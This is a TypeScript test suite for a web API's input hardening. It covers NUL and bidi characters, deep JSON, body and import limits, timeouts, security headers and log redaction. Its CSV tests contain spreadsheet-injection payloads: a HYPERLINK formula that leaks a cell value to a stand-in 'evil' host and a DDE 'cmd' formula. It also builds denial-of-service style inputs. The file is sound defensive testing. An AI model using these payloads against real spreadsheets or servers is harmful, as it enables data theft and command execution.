/**
 * Hostile input (docs/api.md "Input rules", "Limits", "Headers"): each is a
 * 4xx with its catalogue code and nothing written, never a 5xx. NUL bytes and
 * lone surrogates, impossible dates, deep JSON, NFC normalisation, control
 * and bidi characters in titles, body limits and media types, import limits,
 * the statement timeout, CSV formula neutralisation, security headers and
 * log redaction.
 */
import { connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import Fastify from 'fastify';
import { sql } from 'kysely';
import { minutesToCsv, type Minutes } from '@esa-flow/engine';
import { createDatabase } from '@esa-flow/engine/internal';
import { ADMIN_DATABASE_URL } from '../../engine/test/support/database-url';
import { buildApp, loadServerConfig } from '../src/index';
import { toCsv } from '../src/http/csv';
import { jsonDepthExceeds } from '../src/http/input-hardening';
import { redactUrl } from '../src/http/log-options';
import { installErrorHandling } from '../src/http/problem';
import { PAGE_CSP } from '../src/http/security-headers';
import { startServerWorld, type ServerWorld } from './support/server-world';

let w: ServerWorld;
beforeAll(async () => {
  w = await startServerWorld({ IMPORT_MAX_ROWS: '3', IMPORT_MAX_COLUMNS: '8', IMPORT_MAX_BYTES: '4096' });
});
afterAll(() => w.close());

const caseBody = (over: Record<string, unknown> = {}) => ({
  workflowId: 'sample-approval',
  officeId: w.a.officeId,
  schoolId: w.a.schoolIds[0],
  subjectPersonId: w.a.users.teacher.personId,
  title: 'ขอย้าย',
  input: { amount: 5 },
  ...over,
});
const countCases = async () => Number((await sql<{ n: string }>`select count(*)::text as n from cases`.execute(w.tdb.db)).rows[0]!.n);
const raw = async (
  method: 'POST' | 'GET',
  url: string,
  payload: string,
  headers: Record<string, string> = {},
  who: string | null = 'a.teacher',
) =>
  w.app.inject({
    method,
    url,
    payload,
    headers: { 'content-type': 'application/json', ...(who ? { cookie: await w.cookieOf(who) } : {}), ...headers },
  });

describe('NUL bytes and lone surrogates', () => {
  it('refuses a NUL in a sign-in body, a case title, a nested payload string and a key (400, nothing written)', async () => {
    const before = await countCases();
    const signIn = await w.app.inject({ method: 'POST', url: '/api/auth/sign-in', payload: { username: 'a\u0000b', password: 'x' } });
    expect(signIn.statusCode).toBe(400);
    expect(signIn.json()).toMatchObject({
      code: 'INPUT_CHARACTER_NOT_ALLOWED',
      message: { th: expect.any(String), en: expect.any(String) },
    });
    for (const body of [
      caseBody({ title: 'x\u0000' }),
      caseBody({ input: { deep: [{ note: 'a\u0000' }] } }),
      caseBody({ input: { 'k\u0000': 1 } }),
    ]) {
      const res = await w.call('a.teacher', 'POST', '/api/cases', body);
      expect(res.statusCode).toBe(400);
      expect(res.json().code).toBe('INPUT_CHARACTER_NOT_ALLOWED');
    }
    expect(await countCases()).toBe(before);
  });

  it('refuses a NUL or a lone surrogate in a query parameter and a path parameter', async () => {
    for (const url of ['/api/cases?q=%00', '/api/cases?q=a%00b', '/api/cases?q=a&q=%00', '/api/supervision/sla/cases?q=%00']) {
      const res = await w.call('a.hr', 'GET', url);
      expect(res.statusCode).toBeLessThan(500);
      expect(res.statusCode).toBeGreaterThanOrEqual(400);
    }
    const q = await w.call('a.hr', 'GET', '/api/cases?q=%00');
    expect(q.statusCode).toBe(400);
    expect(q.json().code).toBe('INPUT_CHARACTER_NOT_ALLOWED');
    // percent-encoded UTF-8 of a surrogate cannot arrive as one: the decoder makes it U+FFFD, which is harmless
    expect((await w.call('a.hr', 'GET', '/api/cases?q=%ED%A0%80')).statusCode).toBe(200);
    const p = await w.call('a.hr', 'GET', '/api/cases/%00');
    expect(p.statusCode).toBe(400);
  });

  it('refuses a lone surrogate in a case title (was a 500 from PostgreSQL)', async () => {
    const before = await countCases();
    const res = await raw('POST', '/api/cases', JSON.stringify(caseBody({ title: 'ขอ\ud800ย้าย' })));
    expect(res.statusCode).toBe(400);
    expect(res.json().code).toBe('INPUT_CHARACTER_NOT_ALLOWED');
    // a well-formed pair (an emoji) is fine
    const ok = await w.call('a.teacher', 'POST', '/api/cases', caseBody({ title: 'ขอย้าย 😀' }));
    expect(ok.statusCode).toBe(201);
    expect(await countCases()).toBe(before + 1);
  });
});

describe('impossible dates', () => {
  it('refuses 2027-02-30 as a committee term (400 INVALID_PAYLOAD), accepts 2028-02-29', async () => {
    const created = await w.call('a.hr', 'POST', `/api/offices/${w.a.officeId}/committees`, {
      kind: 'screening',
      nameTh: 'คณะกรรมการ',
      nameEn: 'Committee',
    });
    expect(created.statusCode).toBe(201);
    const committeeId = created.json().committeeId as string;
    const bad = await w.call('a.hr', 'POST', `/api/committees/${committeeId}/members`, {
      personId: w.a.users.area.personId,
      seat: 'chair',
      termFrom: '2027-02-30',
    });
    expect(bad.statusCode).toBe(400);
    expect(bad.json()).toMatchObject({ code: 'INVALID_PAYLOAD', detail: { issues: [expect.objectContaining({ path: 'body.termFrom' })] } });
    const until = await w.call('a.hr', 'POST', `/api/committees/${committeeId}/members`, {
      personId: w.a.users.area.personId,
      seat: 'chair',
      termFrom: '2027-01-01',
      termUntil: '2027-13-01',
    });
    expect(until.statusCode).toBe(400);
    const ok = await w.call('a.hr', 'POST', `/api/committees/${committeeId}/members`, {
      personId: w.a.users.area.personId,
      seat: 'chair',
      termFrom: '2028-02-29',
    });
    expect(ok.statusCode).toBe(201);
  });
});

describe('deep JSON', () => {
  it('refuses 100,000-deep arrays with an Idempotency-Key (400 INPUT_TOO_DEEP, no stack overflow), before anything recursive runs; 200,000 deep is over the size limit', async () => {
    const { caseId } = (await w.call('a.teacher', 'POST', '/api/cases', caseBody())).json() as { caseId: string };
    const huge = await raw(
      'POST',
      `/api/cases/${caseId}/events`,
      `{"type":"approve","payload":${'['.repeat(200_000) + ']'.repeat(200_000)}}`,
      { 'idempotency-key': 'deep-0' },
    );
    expect(huge.statusCode).toBe(413);
    const deep = '['.repeat(100_000) + ']'.repeat(100_000);
    const keys = Number((await sql<{ n: string }>`select count(*)::text as n from idempotency_keys`.execute(w.tdb.db)).rows[0]!.n);
    for (const url of ['/api/cases', `/api/cases/${caseId}/events`]) {
      const res = await raw('POST', url, `{"type":"approve","payload":${deep}}`, { 'idempotency-key': 'deep-1' });
      expect(res.statusCode).toBe(400);
      expect(res.json()).toMatchObject({ code: 'INPUT_TOO_DEEP', detail: { maxDepth: 64 } });
    }
    expect(Number((await sql<{ n: string }>`select count(*)::text as n from idempotency_keys`.execute(w.tdb.db)).rows[0]!.n)).toBe(keys);
  });

  it('counts depth outside strings only; 64 levels pass, 65 do not', () => {
    expect(jsonDepthExceeds('"[[[[[[[[[["', 2)).toBe(false);
    expect(jsonDepthExceeds('{"a":"\\"[[[["}', 1)).toBe(false);
    expect(jsonDepthExceeds('['.repeat(64) + ']'.repeat(64), 64)).toBe(false);
    expect(jsonDepthExceeds('['.repeat(65) + ']'.repeat(65), 64)).toBe(true);
  });
});

describe('text: NFC, control and bidi characters', () => {
  it('stores a title sent in NFD as NFC, and finds it by an NFD search term', async () => {
    const nfd = 'Cafe\u0301 เรื่องทดสอบ';
    const res = await w.call('a.teacher', 'POST', '/api/cases', caseBody({ title: nfd }));
    expect(res.statusCode).toBe(201);
    const { caseId } = res.json() as { caseId: string };
    const row = await w.tdb.db.selectFrom('cases').select('title').where('id', '=', caseId).executeTakeFirstOrThrow();
    expect(row.title).toBe(nfd.normalize('NFC'));
    expect(row.title).toContain('Caf\u00e9');
    const found = await w.call('a.teacher', 'GET', `/api/cases?q=${encodeURIComponent('Cafe\u0301')}`);
    expect(found.statusCode).toBe(200);
    expect((found.json() as { items: { id: string }[] }).items.map((i) => i.id)).toContain(caseId);
  });

  it('refuses a bidi override or a control character in a case title and a committee name (forbidden_character)', async () => {
    const before = await countCases();
    for (const title of ['\u202Eเรื่องปลอม', 'a\u2066b', 'line\nbreak', 'tab\there', 'del\u007f', 'rlm\u200f']) {
      const res = await w.call('a.teacher', 'POST', '/api/cases', caseBody({ title }));
      expect(res.statusCode).toBe(400);
      expect(res.json()).toMatchObject({
        code: 'INVALID_PAYLOAD',
        detail: { issues: [{ path: 'body.title', code: 'forbidden_character' }] },
      });
    }
    const committee = await w.call('a.hr', 'POST', `/api/offices/${w.a.officeId}/committees`, {
      kind: 'screening',
      nameTh: 'คณะ\u202Eกรรมการ',
      nameEn: 'C',
    });
    expect(committee.statusCode).toBe(400);
    expect(committee.json().detail.issues[0]).toMatchObject({ path: 'body.nameTh', code: 'forbidden_character' });
    expect(await countCases()).toBe(before);
  });
});

describe('body limits and media types', () => {
  it('answers 413 PAYLOAD_TOO_LARGE for a JSON body over 256 kB, 415 for text/plain or no JSON type', async () => {
    const big = await raw('POST', '/api/cases', JSON.stringify(caseBody({ input: { pad: 'x'.repeat(300 * 1024) } })));
    expect(big.statusCode).toBe(413);
    expect(big.json()).toMatchObject({ code: 'PAYLOAD_TOO_LARGE', message: { th: expect.any(String), en: expect.any(String) } });
    const text = await raw('POST', '/api/cases', JSON.stringify(caseBody()), { 'content-type': 'text/plain' });
    expect(text.statusCode).toBe(415);
    expect(text.json().code).toBe('UNSUPPORTED_MEDIA_TYPE');
    const xml = await raw('POST', '/api/auth/sign-in', '<a/>', { 'content-type': 'application/xml' }, null);
    expect(xml.statusCode).toBe(415);
  });

  /** Sends the headers and the first bytes of a 100 MB body, never the rest; resolves with the answer. */
  async function answerBeforeBody(path: string, cookie?: string): Promise<string> {
    if (!w.app.server.listening) await w.app.listen({ port: 0, host: '127.0.0.1' });
    const { port } = w.app.server.address() as { port: number };
    return new Promise<string>((resolve, reject) => {
      const socket = connect(port, '127.0.0.1', () => {
        socket.write(
          `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n${cookie ? `Cookie: ${cookie}\r\nOrigin: http://x\r\n` : ''}Content-Length: ${100 * 1024 * 1024}\r\n\r\n{"title":"`,
        );
      });
      let data = '';
      socket.on('data', (chunk) => {
        data += chunk.toString();
        if (data.includes('\r\n\r\n') && data.includes('}')) {
          socket.destroy();
          resolve(data);
        }
      });
      socket.on('error', reject);
      setTimeout(() => reject(new Error(`no answer: ${data}`)), 60_000).unref(); // a bound for a hang, not a speed check
    });
  }

  it('refuses a caller without a session before reading the body: 401 while the 100 MB body is still unsent', async () => {
    // the rest of the body is never sent: an answer at all shows the server did not wait to read it
    const answer = await answerBeforeBody('/api/cases');
    expect(answer).toMatch(/^HTTP\/1\.1 401/);
    expect(answer).toContain('UNAUTHENTICATED');
  });

  it('refuses a cycle opening (64 MB limit) by someone without a role in its office before reading the body', async () => {
    const { caseId } = (await w.call('a.teacher', 'POST', '/api/cases', caseBody())).json() as { caseId: string };
    const other = await answerBeforeBody(`/api/cycles/${caseId}/children`, await w.cookieOf('b.hr'));
    expect(other).toMatch(/^HTTP\/1\.1 404/);
    expect(other).toContain('CASE_NOT_FOUND');
    const bad = await answerBeforeBody('/api/cycles/not-a-uuid/children', await w.cookieOf('b.hr'));
    expect(bad).toMatch(/^HTTP\/1\.1 404/);
  });
});

describe('import limits', () => {
  const CSV = { 'content-type': 'text/csv; charset=utf-8' };
  const url = () => `/api/offices/${w.a.officeId}/import/schools?dryRun=true`;
  it('refuses more rows or columns than IMPORT_MAX_ROWS / IMPORT_MAX_COLUMNS (413 IMPORT_TOO_LARGE) and a file over IMPORT_MAX_BYTES (413)', async () => {
    const header = 'code,name_th,name_en\r\n';
    const ok = await w.call('a.admin', 'POST', url(), `${header}S1,โรงเรียนหนึ่ง,\r\nS2,โรงเรียนสอง,\r\n\r\nS3,โรงเรียนสาม,\r\n`, CSV);
    expect(ok.statusCode).toBe(200);
    const rows = await w.call('a.admin', 'POST', url(), `${header}S1,a,\r\nS2,b,\r\nS3,c,\r\nS4,d,\r\n`, CSV);
    expect(rows.statusCode).toBe(413);
    expect(rows.json()).toMatchObject({ code: 'IMPORT_TOO_LARGE', detail: { limit: 'rows', max: 3 } });
    const columns = await w.call('a.admin', 'POST', url(), `${'a,'.repeat(500)}a\r\n`, CSV);
    expect(columns.statusCode).toBe(413);
    expect(columns.json()).toMatchObject({ code: 'IMPORT_TOO_LARGE', detail: { limit: 'columns', max: 8 } });
    // a quoted comma is one cell
    const quoted = await w.call('a.admin', 'POST', url(), `${header}S1,"a,b,c,d,e,f,g,h,i,j",\r\n`, CSV);
    expect(quoted.statusCode).toBe(200);
    const bytes = await w.call('a.admin', 'POST', url(), `${header}${'S1,a,\r\n'.repeat(1000)}`, CSV);
    expect(bytes.statusCode).toBe(413);
    expect(bytes.json().code).toBe('PAYLOAD_TOO_LARGE');
    const nul = await w.call('a.admin', 'POST', url(), `${header}S1,a\u0000,\r\n`, CSV);
    expect(nul.statusCode).toBe(400);
    expect(nul.json().code).toBe('INPUT_CHARACTER_NOT_ALLOWED');
    const bidi = await w.call('a.admin', 'POST', url(), `${header}S1,\u202Eโรงเรียน,\r\n`, CSV);
    expect(bidi.statusCode).toBe(200);
    expect(bidi.json().rows[0]).toMatchObject({
      status: 'rejected',
      reasons: [expect.objectContaining({ code: 'forbidden_character', column: 'name_th' })],
    });
    const columnsDoc = await w.call('a.admin', 'GET', '/api/import/schools/columns');
    expect(columnsDoc.json().maxRows).toBe(3);
  });
});

describe('statement timeout', () => {
  it('cuts a query running longer than statementTimeoutMs (57014), which the API answers 503 QUERY_TIMEOUT', async () => {
    const db = createDatabase({ connectionString: ADMIN_DATABASE_URL, maxConnections: 1, statementTimeoutMs: 200 });
    const app = Fastify();
    installErrorHandling(app, () => undefined);
    app.get('/slow', async () => (await sql`select pg_sleep(3)`.execute(db)).rows);
    try {
      const res = await app.inject({ method: 'GET', url: '/slow' });
      expect(res.statusCode).toBe(503);
      expect(res.json()).toMatchObject({ code: 'QUERY_TIMEOUT', message: { th: expect.any(String), en: expect.any(String) } });
      const shown = await sql<{ statement_timeout: string }>`show statement_timeout`.execute(db);
      expect(shown.rows[0]!.statement_timeout).toBe('200ms');
    } finally {
      await app.close();
      await db.destroy();
    }
  });
});

describe('CSV formula neutralisation', () => {
  it('prefixes text starting with = + - @ TAB CR, keeps numbers and plain-number text', () => {
    const csv = toCsv(
      ['c'],
      [
        ['=HYPERLINK("https://evil/?"&A1,"ดูเอกสาร")'],
        ['+1+2'],
        ['-x'],
        ['@SUM(A1)'],
        ['\tx'],
        ['\rx'],
        ['-12.5'],
        ['+66'],
        [-5],
        [3.25],
        ['ครู'],
        [null],
      ],
    );
    const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
    expect(lines.slice(1, 13)).toEqual([
      `"'=HYPERLINK(""https://evil/?""&A1,""ดูเอกสาร"")"`,
      "'+1+2",
      "'-x",
      "'@SUM(A1)",
      "'\tx",
      `"'\rx"`,
      '-12.5',
      '+66',
      '-5',
      '3.25',
      'ครู',
      '',
    ]);
  });

  it('neutralises the minutes CSV too', () => {
    const m = {
      items: [
        {
          position: 1,
          title: '=cmd|" /C calc"!A0',
          resolution: null,
          status: 'pending',
          tally: { approve: 0, reject: 0, defer: 0, abstain: 0 },
          recusals: [],
          note: '-3',
        },
      ],
    } as unknown as Minutes;
    const csv = minutesToCsv(m);
    expect(csv).toContain(`"'=cmd|"" /C calc""!A0"`);
    expect(csv).not.toMatch(/,=cmd/);
  });
});

describe('security headers', () => {
  const common = (h: Record<string, unknown>) => {
    expect(h['x-content-type-options']).toBe('nosniff');
    expect(h['referrer-policy']).toBe('no-referrer');
    expect(h['x-frame-options']).toBe('DENY');
    expect(String(h['content-security-policy'])).toContain("frame-ancestors 'none'");
  };

  it('sends them on API answers (no-store, a CSP that runs nothing), problems, /docs and the web page', async () => {
    const me = await w.call('a.teacher', 'GET', '/api/me');
    common(me.headers);
    expect(me.headers['cache-control']).toBe('no-store');
    expect(me.headers['content-security-policy']).toContain("default-src 'none'");
    expect(me.headers['strict-transport-security']).toBeUndefined(); // COOKIE_SECURE=false in tests
    const problem = await w.call(null, 'GET', '/api/me');
    common(problem.headers);
    expect(problem.headers['cache-control']).toBe('no-store');

    const docs = await w.app.inject({ method: 'GET', url: '/docs/', headers: { accept: 'text/html' } });
    const page = docs.statusCode === 302 ? await w.app.inject({ method: 'GET', url: String(docs.headers.location) }) : docs;
    expect(page.statusCode).toBe(200);
    common(page.headers);
    expect(page.headers['content-security-policy']).toBe(PAGE_CSP);
    // swagger-ui's page loads only same-origin scripts and styles, which the page CSP allows
    expect(page.body).not.toMatch(/<script>(?!\s*<\/script>)/);
    expect([...page.body.matchAll(/<script src="([^"]+)"/g)].every(([, src]) => !/^https?:/.test(src!))).toBe(true);

    const web = await w.app.inject({ method: 'GET', url: '/cases', headers: { accept: 'text/html' } });
    expect(web.statusCode).toBe(200);
    common(web.headers);
    expect(web.headers['content-security-policy']).toBe(PAGE_CSP);
    expect(web.headers['cache-control']).toBe('no-store');
  });

  it('adds Strict-Transport-Security when cookies are Secure (HTTPS)', async () => {
    // with the production logger options too (redaction, URL serializer): Fastify accepts them
    const app = await buildApp({ engine: w.engine, config: loadServerConfig({ COOKIE_SECURE: 'true' }), logger: { level: 'silent' } });
    try {
      const res = await app.inject({ method: 'GET', url: '/api/me' });
      expect(res.headers['strict-transport-security']).toBe('max-age=31536000');
    } finally {
      await app.close();
    }
  });
});

describe('log redaction', () => {
  it('hides search terms and citizen ids in logged URLs', () => {
    expect(redactUrl('/api/cases?q=1101700203451&limit=5')).toBe('/api/cases?q=[redacted]&limit=5');
    expect(redactUrl('/api/people/1-1017-00203-45-1')).toBe('/api/people/[redacted]');
    expect(redactUrl('/api/cases?limit=5')).toBe('/api/cases?limit=5');
  });
});
